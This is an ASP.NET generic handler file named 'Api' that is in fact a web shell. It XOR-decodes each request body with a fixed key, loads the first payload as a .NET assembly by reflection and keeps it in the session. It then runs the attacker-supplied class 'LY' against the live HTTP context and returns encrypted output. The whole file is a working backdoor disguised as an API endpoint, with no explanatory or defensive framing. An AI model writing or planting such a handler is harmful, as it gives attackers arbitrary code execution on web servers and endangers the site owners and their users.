<%@ WebHandler Language="C#" Class="Api" %>
using System;
using System.Web;
using System.Web.SessionState;

public class Api : IHttpHandler, IRequiresSessionState
{
    static readonly byte[] K = System.Text.Encoding.Default.GetBytes("9b8a7c6d5e4f3a2b");
    static byte[] X(byte[] d) { for (int i = 0; i < d.Length; i++) d[i] = (byte)(d[i] ^ K[(i + 1) & 15]); return d; }

    public void ProcessRequest(HttpContext ctx)
    {
        byte[] data = X(ctx.Request.BinaryRead(ctx.Request.ContentLength));
        if (ctx.Session["payload"] == null)
        {
            ctx.Session["payload"] = (System.Reflection.Assembly)typeof(System.Reflection.Assembly)
                .GetMethod("Load", new Type[] { typeof(byte[]) }).Invoke(null, new object[] { data });
        }
        else
        {
            var ms = new System.IO.MemoryStream();
            object o = ((System.Reflection.Assembly)ctx.Session["payload"]).CreateInstance("LY");
            o.Equals(ctx); o.Equals(ms); o.Equals(data); o.ToString();
            ctx.Response.BinaryWrite(X(ms.ToArray()));
        }
    }
    public bool IsReusable { get { return false; } }
}
